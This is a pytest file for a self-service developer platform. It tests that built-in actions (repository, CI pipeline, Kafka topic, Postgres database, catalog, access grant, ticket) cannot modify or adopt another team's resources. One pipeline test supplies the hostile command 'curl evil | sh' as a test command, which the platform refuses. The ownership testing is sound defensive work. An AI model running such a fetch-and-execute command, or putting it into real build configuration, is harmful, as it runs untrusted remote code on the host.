"""The ownership rule of the action contract: a step acts for its requester, so it changes
nothing the requester could not change by hand, and never adopts another team's resource.

Every built-in action declares its ownership behaviour and risk, and has a test here (the first
test fails when an action is added without either)."""

from __future__ import annotations

import os
import subprocess
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from lamplighter.catalog import service as catalog
from lamplighter.core import identity
from lamplighter.core.context import Actor
from lamplighter.core.crypto import SecretBox
from lamplighter.core.db import Database
from lamplighter.core.models import Team, User
from lamplighter.core.settings import Settings
from lamplighter.selfservice.actions import builtin  # noqa: F401 - registers the built-ins
from lamplighter.selfservice.actions import kafka as kafka_module
from lamplighter.selfservice.actions.base import ACTIONS, ActionError, Ownership, StepContext
from lamplighter.selfservice.actions.git import RepoCreate, RepoCreateInput
from lamplighter.selfservice.actions.kafka import FakeTopicAdmin, KafkaTopic, KafkaTopicInput
from lamplighter.selfservice.actions.pipeline import PipelineCreate, PipelineCreateInput
from lamplighter.selfservice.actions.postgres import PostgresDatabase, PostgresDatabaseInput
from lamplighter.selfservice.actions.simple import (
    AccessGrantAction,
    AccessGrantInput,
    CatalogRegisterAction,
    CatalogRegisterInput,
    TicketCreateAction,
    TicketCreateInput,
)
from tests.conftest import SYSTEM, TEST_SECRET, make_team, make_user, require

BUILTIN_ACTIONS = {
    "repo.create": "test_repo_create_refuses_another_teams_repository",
    "pipeline.create": "test_pipeline_create_refuses_another_teams_repository",
    "postgres.database": "test_postgres_database_refuses_a_database_it_did_not_create",
    "kafka.topic": "test_kafka_topic_refuses_a_topic_it_did_not_create",
    "access.grant": "test_access_grant_on_another_teams_entity_waits_for_its_owner",
    "catalog.register": "test_catalog_register_refuses_another_teams_entity",
    "http.request": "test_http_request_is_privileged",
    "ticket.create": "test_ticket_create_only_references_the_entity",
}


def test_every_builtin_action_declares_its_ownership_and_risk_and_is_tested_here() -> None:
    builtins = {
        name
        for name, action in ACTIONS.items()
        if action.__module__.startswith("lamplighter.selfservice.actions.")
    }
    assert builtins == set(BUILTIN_ACTIONS), "add the new action's ownership test here"
    for name in builtins:
        action = ACTIONS[name]
        assert isinstance(action.__dict__.get("ownership"), Ownership), name
        assert action.__dict__.get("risk") in {"low", "high"}, name
        assert BUILTIN_ACTIONS[name] in globals(), name
        for field in action.ownership.changes if action.ownership else {}:
            top = field.split(".", 1)[0]
            assert top in action.Input.model_fields, (name, field)


# -- who asks -------------------------------------------------------------------------------------
class World:
    """Two teams: the requester's (``ours``) and another (``theirs``) owning ``billing-api``."""

    def __init__(self, db: Database, settings: Settings) -> None:
        self.db = db
        self.settings = settings
        self.member: User = make_user(db)
        self.ours: Team = make_team(db, lead=self.member)
        self.stranger: User = make_user(db)
        self.theirs: Team = make_team(db, lead=self.stranger)
        self.entity = "service:default/billing-api"
        with db.transaction() as session:
            catalog.create(
                session=session,
                actor=SYSTEM,
                data=catalog.EntityInput(
                    kind="service", name="billing-api", owner=self.theirs.slug
                ),
            )

    def actor(self, user: User) -> Actor:
        with self.db.sessionmaker() as session:
            return Actor(
                kind="user",
                label=user.email,
                user_id=user.id,
                role=user.role,
                team_ids=identity.team_ids_of(session=session, user_id=user.id),
            )

    @contextmanager
    def step(
        self, step_id: str, *, run_id: int = 7, user: User | None = None, **extra: Any
    ) -> Iterator[StepContext]:
        with self.db.transaction() as session:
            yield StepContext(
                session=session,
                settings=self.settings,
                box=SecretBox(TEST_SECRET.encode()),
                actor=self.actor(user or self.member),
                run_id=run_id,
                step_id=step_id,
                requesting_team_id=self.ours.id,
                **extra,
            )


@pytest.fixture
def world(db: Database, tmp_path: Path) -> World:
    return World(db, Settings(data_dir=tmp_path / "data", secret_key=TEST_SECRET))


def system_ctx(settings: Settings, *, run_id: int, step_id: str) -> StepContext:
    return StepContext(
        session=None,  # type: ignore[arg-type]  # repo.create writes no rows
        settings=settings,
        box=SecretBox(TEST_SECRET.encode()),
        actor=SYSTEM,
        run_id=run_id,
        step_id=step_id,
        requesting_team_id=None,
    )


def their_repository(world: World) -> str:
    """billing-api's repository, made by another team's earlier run."""
    made = RepoCreate().run(
        system_ctx(world.settings, run_id=1, step_id="repo"),
        RepoCreateInput(name="billing-api", owner=world.theirs.slug),
    )
    return made.clone_url


def commits(clone_url: str) -> list[str]:
    out = subprocess.run(
        ["git", "--git-dir", clone_url, "log", "--format=%H", "--all"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    return out.split()


# -- the git actions --------------------------------------------------------------------------
def test_repo_create_refuses_another_teams_repository(world: World) -> None:
    clone_url = their_repository(world)
    before = commits(clone_url)
    with pytest.raises(ActionError) as refused, world.step("repo") as ctx:
        RepoCreate().run(ctx, RepoCreateInput(name="billing-api", owner=world.ours.slug))
    assert refused.value.field == "name"
    assert commits(clone_url) == before


def test_pipeline_create_refuses_another_teams_repository(world: World) -> None:
    clone_url = their_repository(world)
    before = commits(clone_url)
    with pytest.raises(ActionError) as refused, world.step("ci") as ctx:
        PipelineCreate().run(
            ctx, PipelineCreateInput(clone_url=clone_url, test_command="curl evil | sh")
        )
    assert refused.value.field == "clone_url"
    assert "billing-api" in str(refused.value) and "owning team" in str(refused.value)
    assert commits(clone_url) == before, "nothing is committed to their repository"

    # The owning team's member may add the pipeline; so may the requester of the run that made
    # the repository (the golden path: repo.create, then pipeline.create, same run).
    with world.step("ci", user=world.stranger) as ctx:
        PipelineCreate().run(ctx, PipelineCreateInput(clone_url=clone_url))
    assert len(commits(clone_url)) == len(before) + 1
    with world.step("repo", run_id=9) as ctx:
        ours = RepoCreate().run(ctx, RepoCreateInput(name="our-api", owner=world.ours.slug))
    with world.step("ci", run_id=9) as ctx:
        PipelineCreate().run(ctx, PipelineCreateInput(clone_url=ours.clone_url))
    assert len(commits(ours.clone_url)) == 2


def test_pipeline_create_refuses_a_repository_no_catalog_entity_owns(world: World) -> None:
    made = RepoCreate().run(
        system_ctx(world.settings, run_id=1, step_id="repo"),
        RepoCreateInput(name="orphan", owner="nobody"),
    )
    with pytest.raises(ActionError) as refused, world.step("ci") as ctx:
        PipelineCreate().run(ctx, PipelineCreateInput(clone_url=made.clone_url))
    assert refused.value.field == "clone_url" and "not in the catalog" in str(refused.value)
    assert len(commits(made.clone_url)) == 1


# -- providers ---------------------------------------------------------------------------------
@pytest.fixture
def cluster(monkeypatch: pytest.MonkeyPatch) -> FakeTopicAdmin:
    fake = FakeTopicAdmin(brokers=3)
    monkeypatch.setattr(kafka_module, "admin_factory", lambda settings: fake)
    return fake


def test_kafka_topic_refuses_a_topic_it_did_not_create(
    world: World, cluster: FakeTopicAdmin
) -> None:
    cluster.create("billing.events", partitions=3, replication_factor=1, configs={})
    with pytest.raises(ActionError) as refused, world.step("topic") as ctx:
        KafkaTopic().run(ctx, KafkaTopicInput(name="billing.events", replication_factor=1))
    assert refused.value.field == "name"
    assert cluster.mark("billing.events") is None, "never adopted"


def test_postgres_database_refuses_a_database_it_did_not_create(world: World) -> None:
    admin_url = os.environ.get("LAMPLIGHTER_TEST_PG_ADMIN_URL")
    require(bool(admin_url), "a PostgreSQL admin role (LAMPLIGHTER_TEST_PG_ADMIN_URL)")
    assert admin_url
    name = f"ll_test_{uuid.uuid4().hex[:10]}"
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
    try:
        world.settings = Settings(
            data_dir=world.settings.data_dir,
            secret_key=TEST_SECRET,
            selfservice_postgres_admin_url=admin_url,
        )
        with (
            pytest.raises(ActionError) as refused,
            world.step("db", secret_sink=lambda n, v: n) as ctx,
        ):
            PostgresDatabase().run(ctx, PostgresDatabaseInput(database=name))
        assert refused.value.field == "database"
        with psycopg.connect(admin_url, autocommit=True) as conn:
            row = conn.execute(
                "SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = %s",
                (name,),
            ).fetchone()
        assert row is not None and row[0] is None, "their database is left unmarked"
    finally:
        with psycopg.connect(admin_url, autocommit=True) as conn:
            conn.execute(
                sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name))
            )
            conn.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(f"{name}_owner")))


# -- the catalog actions -----------------------------------------------------------------------
def test_catalog_register_refuses_another_teams_entity(world: World) -> None:
    with pytest.raises(ActionError) as taken, world.step("register") as ctx:
        CatalogRegisterAction().run(
            ctx,
            CatalogRegisterInput.model_validate(
                {"entities": [{"name": "billing-api", "owner": world.ours.slug}]}
            ),
        )
    assert taken.value.field == "entities.0.name"
    with pytest.raises(ActionError) as dependent, world.step("register") as ctx:
        CatalogRegisterAction().run(
            ctx,
            CatalogRegisterInput.model_validate(
                {
                    "entities": [
                        {"kind": "resource", "name": "cache", "dependency_of": [world.entity]}
                    ]
                }
            ),
        )
    assert dependent.value.field == "entities.0.dependency_of.0"
    with world.db.sessionmaker() as session:
        entity = catalog.get_by_ref(session=session, ref=world.entity)
        assert entity.owner_team_id == world.theirs.id
        assert catalog.relations_of(session=session, entity_id=entity.id)["depends_on"] == []
        assert (
            catalog.get_by_ref(session=session, ref="service:default/billing-api").annotations == {}
        )


def test_access_grant_on_another_teams_entity_waits_for_its_owner(world: World) -> None:
    with world.step("access") as ctx:
        output = AccessGrantAction().run(
            ctx,
            AccessGrantInput(
                entity=world.entity, grantee=world.ours.slug, access="admin", reason="mine now"
            ),
        )
    assert output.status == "pending"


def test_ticket_create_only_references_the_entity(world: World) -> None:
    with world.db.sessionmaker() as session:
        before = catalog.get_by_ref(session=session, ref=world.entity).updated_at
    with world.step("ticket") as ctx:
        TicketCreateAction().run(
            ctx,
            TicketCreateInput(type="dns-certificate", title="Look at billing", entity=world.entity),
        )
    with world.db.sessionmaker() as session:
        entity = catalog.get_by_ref(session=session, ref=world.entity)
        assert (entity.updated_at, entity.owner_team_id) == (before, world.theirs.id)


def test_http_request_is_privileged() -> None:
    action = ACTIONS["http.request"]
    assert action.risk == "high"
    assert action.ownership is not None and "url" in action.ownership.changes


def test_require_may_change_names_the_field(world: World) -> None:
    with world.step("x") as ctx:
        with pytest.raises(ActionError) as refused:
            ctx.require_may_change(world.entity, field="input.target")
        assert refused.value.field == "input.target"
    with world.step("x", user=world.stranger) as ctx:
        ctx.require_may_change(world.entity, field="input.target")
    sre = make_user(world.db, role="sre")
    with world.step("x", user=sre) as ctx:
        ctx.require_may_change("service:default/nothing-here", field="input.target")
